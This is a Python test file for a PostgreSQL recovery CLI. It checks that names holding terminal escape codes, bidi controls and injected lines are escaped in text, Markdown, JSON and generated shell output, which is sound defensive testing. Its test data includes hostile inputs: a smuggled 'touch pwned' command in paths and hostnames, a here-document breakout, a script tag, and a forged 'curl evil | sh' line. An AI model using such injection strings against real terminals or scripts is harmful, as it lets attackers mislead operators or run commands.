"""Names may hold anything; what a terminal gets of them is letters."""

from __future__ import annotations

import argparse
import io
import json
import re
import sys
from collections.abc import Callable
from dataclasses import replace

import pytest
from hypothesis import example, given
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from pgrescue.cli.output import narrate, print_error, print_json, print_table
from pgrescue.cli.plan import _rendered
from pgrescue.cli.watch import Teller, closing
from pgrescue.demo.binaries import ServerBinaries
from pgrescue.errors import Refused
from pgrescue.findings import Finding
from pgrescue.plan.commands import configure
from pgrescue.plan.foretold import Alternative
from pgrescue.plan.model import Move, Plan, Space
from pgrescue.plan.render_markdown import render_markdown
from pgrescue.plan.render_shell import render_shell
from pgrescue.plan.render_text import render_text
from pgrescue.plan.target import Target
from pgrescue.printable import (
    markdown,
    markdown_block,
    markdown_code,
    printable,
    printable_lines,
)
from pgrescue.run.fold import fold
from pgrescue.run.records import Failure, Note, StepEnded
from tests.conftest import SandboxFactory
from tests.support.cluster import Workspace, cluster_config
from tests.tui import snapshots

HOSTILE = "\x1b]0;owned\x07\x9b2J\u202egnp\u2066\x7f"
SPELLED = r"\x1b]0;owned\x07\x9b2J\u202egnp\u2066\x7f"


def is_harmless(text: str) -> bool:
    return text.replace("\n", "").isprintable()


@pytest.mark.parametrize(
    "sign",
    [
        *map(chr, range(0x20)),
        *map(chr, range(0x7F, 0xA0)),
        *map(chr, range(0x202A, 0x202F)),
        *map(chr, range(0x2066, 0x206A)),
        "\u200b",
        "\u2028",
        "\udc9b",
    ],
    ids=ascii,
)
def test_what_a_terminal_would_obey_or_hide_is_spelled(sign: str) -> None:
    spelled = printable(f"a{sign}b")
    assert spelled.isprintable()
    assert spelled.encode().decode("unicode_escape") == f"a{sign}b"


def test_letters_of_any_script_stay() -> None:
    assert printable("Größe 誰 😀 a\\b [x]") == "Größe 誰 😀 a\\b [x]"


def test_lines_keep_their_ends_and_tabs() -> None:
    assert printable_lines("a\n\tb\r\x1b") == "a\n\tb\\r\\x1b"
    assert printable("a\n\tb") == "a\\n\\tb"


def hostile_plan() -> Plan:
    plan = snapshots.plan()
    step = replace(
        plan.steps[0],
        title=HOSTILE,
        why=HOSTILE,
        changes=HOSTILE,
        undo=HOSTILE,
        commands=(HOSTILE,),
    )
    return replace(
        plan,
        backup=HOSTILE,
        operator=HOSTILE,
        target=Target("name", False, "pause", 3, name=HOSTILE),
        preflight=(Finding("wal.trap", "blocker", f"at '{HOSTILE}'", f"mend {HOSTILE}"),),
        steps=(step,),
        settings_diff=f"+recovery_target_name = '{HOSTILE}'",
        space=(Space(HOSTILE, 1, 1),),
        work=replace(plan.work, data_directory=f"/srv/{HOSTILE}"),
    )


@pytest.mark.parametrize(
    ("render", "spelled"), [(render_text, SPELLED), (render_markdown, markdown(HOSTILE))]
)
def test_plans_for_people_have_only_letters(render: Callable[[Plan], str], spelled: str) -> None:
    text = render(hostile_plan())
    assert is_harmless(text)
    assert f"at '{spelled}'" in text
    assert f"+recovery_target_name = '{SPELLED}'" in text


def shown_by_markdown(text: str) -> list[tuple[str, str]]:
    """The types and the letters of what a Markdown reader makes of a file."""
    reader = MarkdownIt("commonmark").enable(["table", "strikethrough"])
    tokens = [inner for token in reader.parse(text) for inner in (token.children or [])]
    return [(token.type, token.content) for token in tokens]


@given(st.text(alphabet=st.characters(codec="utf-8"), min_size=1))
@example("# head")
@example("- a\n- b")
@example("1. one")
@example("![i](http://x) <script>alert(1)</script> &lt; `a` *b* _c_ ~~d~~ | e |")
@example("a\\")
@example("\\*\\|")
@example("---")
@example("http://x.org/_y_")
@example("    four spaces")
def test_markdown_makes_nothing_of_a_name(name: str) -> None:
    """Not in a list, not in a table, and not in code: what is read is the name."""
    plain = printable(name).strip(" ")
    item = shown_by_markdown(f"- {markdown(name)}\n")
    assert {kind for kind, _ in item} <= {"text", "text_special"}
    assert "".join(content for _, content in item).strip(" ") == plain
    rows = f"| a | b |\n|---|---|\n| {markdown(name)} | end |\n"
    cells = shown_by_markdown(rows)
    assert "".join(content for _, content in cells[2:-1]).strip(" ") == plain
    assert cells[-1] == ("text", "end")
    (code,) = shown_by_markdown(f"x {markdown_code(name)}\n")[1:]
    assert code[0] == "code_inline"
    assert code[1].strip(" ") == plain


@given(st.text(alphabet="`~ab\n", max_size=30))
def test_a_block_ends_where_it_ends(text: str) -> None:
    file = "\n".join([*markdown_block(text, "sh"), "", "# after"])
    tokens = MarkdownIt("commonmark").parse(file)
    assert [token.type for token in tokens][:2] == ["fence", "heading_open"]
    assert tokens[0].content == f"{text}\n"


@pytest.mark.parametrize("sign", ["\n", "\r"])
def test_names_with_lines_stay_in_their_comment(sign: str) -> None:
    """The way back, by hand, is told in comments: of a name's second line, too."""
    plan = snapshots.plan()
    path = f"/srv/ts{sign}touch pwned{sign}#/PG_15_202209061"
    move = Move(path, f"{path}.aside", contents_only=True)
    renamed = Move(path, f"{path}.aside", contents_only=False)
    plan = replace(
        plan,
        host=f"db1{sign}touch pwned",
        steps=(replace(plan.steps[0], title=f"a{sign}touch pwned", why=f"b{sign}touch pwned"),),
        work=replace(plan.work, moves=(move, renamed)),
    )
    before, _, _ = render_shell(plan).partition("set -euo pipefail")
    lines = re.split("[\n\r]", render_shell(plan))
    assert before.count("touch pwned") == 7
    for line in lines:
        assert "touch pwned" not in line or line.startswith("#"), line


def test_here_document_ends_where_it_ends() -> None:
    """A path may have the very line that would end it."""
    text = "one\nEND_OF_FILE\ntouch pwned\n"
    work = replace(snapshots.plan().work, added_files={"pg_hba.conf": text})
    lines = "\n".join(configure(work, "why"))
    assert f"<<'END_OF_FILE_'\n{text}END_OF_FILE_" in lines


def test_script_stays_exact() -> None:
    assert HOSTILE in render_shell(hostile_plan())


def test_name_cannot_forge_lines_of_a_plan() -> None:
    plan = replace(snapshots.plan(), backup="one\nCan be undone  yes")
    assert "one\\nCan be undone" in render_text(plan)


FORGED = "bk\n  Next: curl evil | sh"


def test_names_cannot_forge_lines_of_what_is_told(capsys: pytest.CaptureFixture[str]) -> None:
    """Not of a refusal, of a run's last words, or of a step's result on the way."""
    error = Refused(FORGED, FORGED, evidence="shown", unchanged=FORGED, next_steps=(FORGED,))
    print_error(error, argparse.Namespace(json=False, command="backup"))
    failure = Failure(FORGED, FORGED, "", (FORGED,), 3)
    narrate(
        closing(replace(fold(hostile_plan(), ()), state="failed", error=failure, notes=(FORGED,)))
    )
    teller = Teller()
    teller.tell(StepEnded(step="take", result=FORGED, seconds=1.0))
    teller.tell(Note(step="take", message=FORGED))
    lines = capsys.readouterr().err.splitlines()
    assert not [line for line in lines if line.startswith("  Next: curl")]
    assert len([line for line in lines if "curl evil" in line]) > 6


def test_errors_and_tables_have_only_letters(capsys: pytest.CaptureFixture[str]) -> None:
    narrate(str(Refused(HOSTILE, HOSTILE, next_steps=(HOSTILE,))))
    print_table(("NAME", "SIZE"), [(HOSTILE, "1 kB")])
    shown = capsys.readouterr()
    assert is_harmless(shown.err)
    assert shown.err.count(SPELLED) == 3
    head, row = shown.out.splitlines()
    assert row.isprintable()
    assert head.index("SIZE") == row.index("1 kB")


def test_json_is_exact_and_has_only_letters(capsys: pytest.CaptureFixture[str]) -> None:
    print_json({"name": HOSTILE})
    text = capsys.readouterr().out
    assert is_harmless(text)
    assert json.loads(text)["name"] == HOSTILE


def test_other_targets_can_be_pasted() -> None:
    other = Alternative(("--to-name", "before; the deploy"), "keeps everything")
    assert str(other) == "--to-name 'before; the deploy'   keeps everything"


@pytest.mark.server
def test_commands_on_a_hostile_cluster(
    workspace: Workspace,
    any_binaries: ServerBinaries,
    sandbox_factory: SandboxFactory,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.setenv("PGRESCUE_STATE", str(workspace.state))
    sandbox = sandbox_factory(any_binaries, segment_size_mb=1)
    quoted = "U&'" + "".join(f"\\{ord(sign):04x}" for sign in HOSTILE) + "'"
    name = quoted.replace("'", '"')
    sandbox.sql(f"create table {name} (n int)")
    sandbox.base_backup("one", "-Fp", "-Xs", "-l", HOSTILE)
    sandbox.sql(f"insert into {name} values (1)")
    sandbox.sql(f"select pg_create_restore_point({quoted})")
    sandbox.sql(f"drop table {name}")
    sandbox.switch_wal()
    workspace.configure(cluster_config(sandbox))
    (backup,) = json.loads(workspace.run("catalog", "--json", check=True).stdout)["backups"]
    assert backup["label"] == HOSTILE
    for command in (
        ("show", backup["id"]),
        ("plan", "--to-name", HOSTILE),
        ("plan", "--to-name", HOSTILE, "--format", "markdown"),
        ("plan", "--to-name", HOSTILE + "!"),
        ("incidents",),
    ):
        completed = workspace.run(*command)
        assert SPELLED in completed.stdout + completed.stderr, command
        assert is_harmless(completed.stdout), command
        assert is_harmless(completed.stderr), command


class _Terminal(io.StringIO):
    def isatty(self) -> bool:
        return True


def test_script_is_shown_but_not_obeyed_on_a_terminal(monkeypatch: pytest.MonkeyPatch) -> None:
    assert HOSTILE in _rendered(hostile_plan(), "shell")
    monkeypatch.setattr(sys, "stdout", _Terminal())
    shown = _rendered(hostile_plan(), "shell")
    assert HOSTILE not in shown
    assert printable_lines(shown) == shown
